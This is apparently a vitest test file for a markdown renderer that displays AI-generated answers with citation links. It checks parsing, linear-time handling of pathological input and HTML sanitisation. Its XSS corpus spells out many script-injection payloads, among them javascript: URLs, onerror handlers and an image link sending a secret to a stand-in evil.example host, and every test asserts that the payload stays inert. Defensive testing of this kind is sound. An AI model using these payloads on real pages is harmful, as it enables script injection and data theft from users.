import { beforeEach, describe, expect, it } from "vitest";
import { CitationResolver, citationLink } from "../src/lib/citations";
import { MAX_DEPTH } from "../src/lib/inline";
import {
  BlockStream,
  MAX_RENDERED_CHARS,
  parseBlocks,
  type RenderOptions,
  renderInline,
  renderMarkdown,
} from "../src/lib/markdown";
import type { Source } from "../src/lib/protocol";

const SOURCES: Source[] = [
  { n: 1, title: "One", url: "https://one.example/a", snippet: "first" },
  { n: 2, title: "Evil", url: "javascript:alert(1)", snippet: "a source with a bad url" },
  { n: 3, title: "Three", url: "https://three.example/", snippet: "third" },
];

function citations(): RenderOptions {
  const resolver = new CitationResolver(SOURCES, document);
  return {
    citation: (n) => {
      const c = resolver.resolve(n);
      return c ? citationLink(c, document) : null;
    },
  };
}

function render(src: string, opts: RenderOptions = citations()): HTMLDivElement {
  const div = document.createElement("div");
  div.append(renderMarkdown(src, document, opts));
  document.body.append(div);
  return div;
}

function html(src: string): string {
  const div = document.createElement("div");
  div.append(renderMarkdown(src, document, citations()));
  return div.innerHTML;
}

beforeEach(() => {
  document.body.replaceChildren();
  document.body.insertAdjacentHTML(
    "beforeend",
    '<ol><li><article class="result" id="result-1"><h3><a href="https://one.example/a">One</a></h3></article></li></ol>',
  );
});

describe("markdown subset", () => {
  it("renders paragraphs separated by blank lines, with line breaks inside", () => {
    expect(html("first line\nsecond line\n\nnext para")).toBe(
      "<p>first line<br>second line</p><p>next para</p>",
    );
  });

  it("renders unordered and ordered lists, including right after a paragraph", () => {
    expect(html("Points:\n- a\n* b\n\n3. c\n4) d")).toBe(
      '<p>Points:</p><ul><li>a</li><li>b</li></ul><ol start="3"><li>c</li><li>d</li></ol>',
    );
  });

  it("joins a list item's continuation line", () => {
    expect(html("- first\n  continued\n- second")).toBe(
      "<ul><li>first continued</li><li>second</li></ul>",
    );
  });

  it("renders bold, italic, nested emphasis and inline code", () => {
    expect(html("**bold** and *it* and __b2__ and _i2_ and `x<y`")).toBe(
      "<p><strong>bold</strong> and <em>it</em> and <strong>b2</strong> and <em>i2</em> and <code>x&lt;y</code></p>",
    );
    expect(html("*a **b** c*")).toBe("<p><em>a <strong>b</strong> c</em></p>");
  });

  it("leaves unclosed markers, snake_case and spaced stars as text", () => {
    expect(html("**open and snake_case_name and 2 * 3 * 4 and `tick")).toBe(
      "<p>**open and snake_case_name and 2 * 3 * 4 and `tick</p>",
    );
  });

  it("renders headings as bold paragraphs and drops rules", () => {
    expect(html("## Title ##\n---\ntext")).toBe("<p><strong>Title</strong></p><p>text</p>");
  });

  it("renders fenced code as text", () => {
    expect(html("```html\n<b>x</b>\n```")).toBe("<pre><code>&lt;b&gt;x&lt;/b&gt;</code></pre>");
  });

  it("honours backslash escapes", () => {
    expect(html("\\*not italic\\* \\[1\\]")).toBe("<p>*not italic* [1]</p>");
  });

  it("keeps block parsing stable as text grows (for streaming)", () => {
    const full = "Intro para.\n\n- one\n- two\n\nEnd **bold**.";
    const final = parseBlocks(full);
    for (let i = 1; i < full.length; i++) {
      const partial = parseBlocks(full.slice(0, i));
      // Every block except the last one of a prefix is already final.
      for (let b = 0; b < partial.length - 1; b++) expect(partial[b]).toEqual(final[b]);
    }
  });

  it("nests emphasis, caps its depth and pairs code spans by run length", () => {
    expect(html("***a***")).toBe("<p><em><strong>a</strong></em></p>");
    const deep = render(`${"*".repeat(40)}a${"*".repeat(40)}`, {});
    expect(deep.querySelectorAll("em, strong").length).toBeLessThanOrEqual(MAX_DEPTH);
    expect(deep.textContent?.includes("a")).toBe(true);
    expect(html("``a`b`` and `c``")).toBe("<p><code>a`b</code> and `c``</p>");
    expect(html("[[[x](javascript:y)")).toBe("<p>[[x</p>");
  });
});

/** Inputs that made the old renderer quadratic (seconds for 50k characters). */
const PATHOLOGICAL: Record<string, (n: number) => string> = {
  brackets: (n) => "[".repeat(n),
  images: (n) => "![".repeat(n / 2),
  unclosedLinks: (n) => "[a](".repeat(n / 4),
  unclosedCitations: (n) => "[1,".repeat(n / 3),
  nestedEmphasis: (n) => `${"*a ".repeat(n / 5)}${"b*".repeat(n / 5)}`,
  starRuns: (n) => `${"*".repeat(n / 2)}a${"*".repeat(n / 2)}`,
  alternating: (n) => `${"*a _b ".repeat(n / 12)}${"c_ d* ".repeat(n / 12)}`,
  strongInEm: (n) => `${"*a **b ".repeat(n / 14)}${"c** d* ".repeat(n / 14)}`,
  underscores: (n) => "_a ".repeat(n / 3),
  backtickRuns: (n) => {
    let s = "";
    for (let k = 1; s.length < n; k++) s += `${"`".repeat(k)}x`;
    return s;
  },
  mixed: (n) => "**a *b _c `d [e ![f](g ".repeat(n / 24),
  headingSpaces: (n) => `# ${" ".repeat(n)}x`,
};

/** Steps the block parser and the inline renderer take over a whole text. */
function steps(src: string): number {
  const work = { steps: 0 };
  parseBlocks(src, work);
  renderInline(src, document, { citation: () => null, work });
  return work.steps;
}

describe("renderer work is linear in the text", () => {
  it.each(Object.keys(PATHOLOGICAL))("%s: 50k characters in a bounded number of steps", (name) => {
    const make = PATHOLOGICAL[name] as (n: number) => string;
    const big = make(50_000);
    expect(big.length).toBeGreaterThan(45_000);
    const work = steps(big);
    expect(work).toBeGreaterThanOrEqual(big.length); // every character is looked at
    expect(work).toBeLessThanOrEqual(10 * big.length);
    // Ten times the text, about ten times the work (quadratic would be a hundred).
    const small = make(5_000);
    expect(work / steps(small)).toBeLessThan(1.3 * (big.length / small.length));
  });

  it("renders at most MAX_RENDERED_CHARS and says it cut the rest", () => {
    const div = render("word ".repeat(10_000));
    expect(div.textContent?.length).toBeLessThanOrEqual(MAX_RENDERED_CHARS + 1);
    expect(div.lastElementChild?.textContent).toBe("…");
  });

  it("parses a growing text once: finished blocks are never parsed again", () => {
    const paragraphs = Array.from({ length: 200 }, (_, i) => `Paragraph ${i} with **bold** [1].`);
    const full = paragraphs.join("\n\n");
    const stream = new BlockStream();
    const work = { steps: 0 };
    for (let end = 7; end < full.length + 7; end += 7) stream.update(full.slice(0, end), work);
    const { finished, open } = stream.update(full);
    expect([...finished, ...open]).toEqual(parseBlocks(full));
    // Re-parsing everything each time would be ~full.length² / 14 steps.
    expect(work.steps).toBeLessThan(20 * full.length);
  });
});

describe("citations in markdown", () => {
  it("links [n] to the result on the page, or to the source url", () => {
    const div = render("Fact [1]. Other [3].");
    const links = [...div.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "#result-1",
      "https://three.example/",
    ]);
    expect(links.map((a) => a.textContent)).toEqual(["[1]", "[3]"]);
    expect(links[1]?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("splits [1, 3] into two links and keeps unknown numbers as plain text", () => {
    const div = render("See [1, 3] and [4] and [0] and [1, 9].");
    expect([...div.querySelectorAll("a")].map((a) => a.dataset.n)).toEqual(["1", "3", "1"]);
    expect(div.textContent).toBe("See [1][3] and [4] and [0] and [1][9].");
  });

  it("never links a source whose url is not http(s)", () => {
    const div = render("Bad [2].");
    expect(div.querySelector("a")).toBeNull();
    expect(div.textContent).toBe("Bad [2].");
  });

  it("leaves [n] plain when no citation callback is given", () => {
    expect(render("x [1]", {}).querySelector("a")).toBeNull();
  });
});

const XSS_CORPUS = [
  "<script>window.pwned = 1</script>",
  '<img src=x onerror="window.pwned = 1">',
  '<a href="javascript:window.pwned=1">click</a>',
  "[click](javascript:window.pwned=1)",
  '[click](JaVaScRiPt:window.pwned=1 "title")',
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click][ref]\n\n[ref]: javascript:window.pwned=1",
  "![leak](https://evil.example/collect?q=secret)",
  "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
  "<https://evil.example/autolink> and <javascript:window.pwned=1> and https://evil.example/bare",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.pwned=1&#62; &amp;lt;b&amp;gt;",
  '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>window.pwned=1</script>"></iframe>',
  "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
  '<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>',
  '"><script>window.pwned=1</script><"',
  "**<b onmouseover=window.pwned=1>bold</b>** *<i onclick=x>it</i>*",
  "`<script>window.pwned=1</script>`",
  "- <img src=x onerror=window.pwned=1>\n1. <script>x</script>",
  "[1](javascript:window.pwned=1) [[1]](javascript:window.pwned=1) [1][javascript:x]",
  '<a href="#result-1" onclick="window.pwned=1">[1]</a>',
  "[1]<script>window.pwned=1</script>[3]",
  '[1 onclick=alert(1)] [1" onmouseover="x] [<img src=x>] [2]',
  "[99999] [-1] [1.5] [1e3] [0x1] [١]",
  "<!-- hidden --><form action=javascript:x><button>go</button></form>",
  "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e ＜script＞",
  '<div style="background:url(javascript:window.pwned=1)">x</div>',
  "```\n</code></pre><script>window.pwned=1</script>\n```",
];

const ALLOWED_TAGS = new Set(["P", "BR", "STRONG", "EM", "CODE", "PRE", "UL", "OL", "LI", "A"]);
const ALLOWED_ATTRS: Record<string, Set<string>> = {
  A: new Set(["class", "href", "data-n", "target", "rel"]),
  OL: new Set(["start"]),
};

describe("markdown renderer against an XSS corpus", () => {
  it.each(XSS_CORPUS)("nothing becomes live markup: %s", (payload) => {
    const div = render(payload);
    for (const node of div.querySelectorAll("*")) {
      expect(ALLOWED_TAGS.has(node.tagName), node.tagName).toBe(true);
      const allowed = ALLOWED_ATTRS[node.tagName] ?? new Set<string>();
      for (const attr of node.getAttributeNames()) expect(allowed.has(attr), attr).toBe(true);
      if (node.tagName === "A") {
        // Only our own citation links: to a result on the page or a given http(s) source.
        expect(node.className).toBe("ai-cite");
        expect(["#result-1", "https://three.example/"]).toContain(node.getAttribute("href"));
        expect(node.textContent).toMatch(/^\[[13]\]$/);
      }
    }
    // The model's text is shown as text: an entity stays an entity, never decoded markup.
    if (payload.includes("&lt;")) expect(div.textContent).toContain("&lt;");
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it("shows raw HTML from the model as visible text", () => {
    const div = render("<script>window.pwned = 1</script>");
    expect(div.textContent).toBe("<script>window.pwned = 1</script>");
  });

  it("drops the url of model-written links and images, keeping the label", () => {
    const div = render("[click](javascript:x) ![alt text](https://evil.example/p.png)");
    expect(div.textContent).toBe("click alt text");
  });
});
